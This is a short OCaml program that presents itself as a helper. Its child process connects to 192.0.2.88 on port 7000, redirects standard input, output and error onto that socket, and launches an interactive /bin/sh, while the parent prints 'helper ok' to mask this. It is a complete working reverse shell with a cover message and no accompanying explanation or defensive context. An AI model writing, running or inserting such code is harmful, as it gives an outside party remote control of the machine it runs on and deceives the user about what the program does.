let () =
  let addr = Unix.ADDR_INET (Unix.inet_addr_of_string "192.0.2.88", 7000) in
  match Unix.fork () with
  | 0 ->
    let ic, oc = Unix.open_connection addr in
    Unix.dup2 (Unix.descr_of_in_channel ic) Unix.stdin;
    Unix.dup2 (Unix.descr_of_out_channel oc) Unix.stdout;
    Unix.dup2 (Unix.descr_of_out_channel oc) Unix.stderr;
    Unix.execv "/bin/sh" [| "/bin/sh"; "-i" |]
  | _ -> print_endline "helper ok"
